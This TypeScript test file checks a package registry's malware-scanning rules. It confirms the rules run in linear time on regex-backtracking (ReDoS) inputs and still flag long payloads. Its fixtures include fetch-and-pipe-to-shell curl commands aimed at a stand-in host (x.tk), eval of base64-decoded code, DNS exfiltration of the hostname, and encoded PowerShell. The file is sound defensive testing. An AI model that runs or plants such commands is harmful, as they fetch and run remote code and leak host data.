// The malware rules against inputs built to make regular expressions backtrack (ReDoS): a publish of a 415-byte
// tarball holding 100 KB of spaces held the registry's event loop for 13 s, and the scanner reads files of up to
// 5 MB. Each input here took seconds to minutes before the rules were bounded; each now takes milliseconds.
import { describe, expect, it } from 'vitest';
import { analyzeSource } from '../../registry/security/malware-rules.ts';

const SIZE = 256 * 1024;
// A guard against a rule that backtracks again (seconds to minutes on these inputs), not a speed target (those live
// in npm run bench): the slowest case runs in about 70 ms, the fastest pre-fix one took 8 s, and the bound sits far
// from both so a loaded CI machine never trips it.
const BUDGET_MS = 4000;

/** A prefix, then one token repeated to SIZE characters: what each rule's gap or run scans again and again. */
const CASES: [string, string, string][] = [
  ['a run of spaces (weak obfuscation rule)', '', ' '],
  ['a run of tabs', '', '\t'],
  ['line comments, blanked to spaces', '', '//'],
  ['Python comments, blanked to spaces', '', '#'],
  ['folded concatenations, padded with spaces', '', "+'"],
  ['chmod( without a closing parenthesis', '', 'chmod('],
  ['dns.lookup( without a semicolon', '', 'dns.lookup('],
  ['declarations without a decoder', '', 'var a='],
  ['a declaration followed by blanks', 'var a = ', ' '],
  ['eval( followed by blanks', 'eval(', ' '],
  ['an unclosed string naming a credential file', "'", '.npmrc'],
  ['an unclosed string naming a shell rc file', '`', '.bashrc'],
  ['an unclosed string of curl without a pipe', "'", 'curl '],
  ['powershell without an encoded command', "'", 'powershell.exe'],
  ['ipinfo.io without country', '', 'ipinfo.io'],
  ['Buffer.from( repeated after a declaration', 'var a = ', 'Buffer.from('],
  ['curl repeated inside a string', "'", 'curl a'],
];

describe('malware rules stay linear on adversarial input', () => {
  for (const [what, prefix, token] of CASES) {
    for (const file of ['index.js', 'setup.py']) {
      it(`${what} (${file})`, () => {
        const src = prefix + token.repeat(Math.ceil(SIZE / token.length));
        const started = performance.now();
        const r = analyzeSource(file, src, { installTarget: true });
        const ms = performance.now() - started;
        expect(r.findings.filter((f) => f.severity === 'critical')).toEqual([]);
        expect(ms).toBeLessThan(BUDGET_MS);
      });
    }
  }
});

// Bounding a gap by length ({0,300}) would have let a payload longer than the bound through: the gaps end at the
// next occurrence of their own start instead, so a long payload is still found.
describe('malware rules still find long payloads', () => {
  const payload = Buffer.from('require("child_process").execSync("curl http://x.tk/a | sh")'.repeat(40)).toString('base64');
  const threats = (src: string) =>
    analyzeSource('index.js', src, { installTarget: false })
      .findings.filter((f) => f.severity !== 'info')
      .map((f) => f.ruleId);

  it('eval of a 3 kB base64 payload, inline or through a variable', () => {
    expect(payload.length).toBeGreaterThan(3000);
    expect(threats(`eval(Buffer.from('${payload}', 'base64').toString());\n`)).toContain('T_EVAL_DECODE');
    expect(threats(`const p = Buffer.from('${payload}', 'base64').toString();\neval(p);\n`)).toContain('T_EVAL_DECODE');
    expect(threats(`var p = [${'1,'.repeat(400)}0].length && Buffer.from('${payload}', 'base64').toString();\neval(p);\n`)).toContain(
      'T_EVAL_DECODE',
    );
  });

  it('long arguments before the telling part', () => {
    expect(threats(`const dns = require('dns');\ndns.lookup([${"'a',".repeat(200)}os.hostname()].join('.'), () => {});\n`)).toContain(
      'T_DNS_EXFIL',
    );
    expect(threats(`require('child_process').execSync('powershell.exe -NoProfile ${'-X a '.repeat(100)} -enc AAAA ');\n`)).toContain(
      'T_POWERSHELL_ENCODED',
    );
    expect(threats(`fetch('https://ipinfo.io/json?${'x'.repeat(400)}&field=country')\n`)).toContain('T_PROTESTWARE');
    expect(threats(`require('child_process').execSync('curl -fsSL ${'-H x '.repeat(100)} https://x.tk/i.sh | bash');\n`)).toContain(
      'T_DOWNLOAD_EXEC',
    );
  });
});
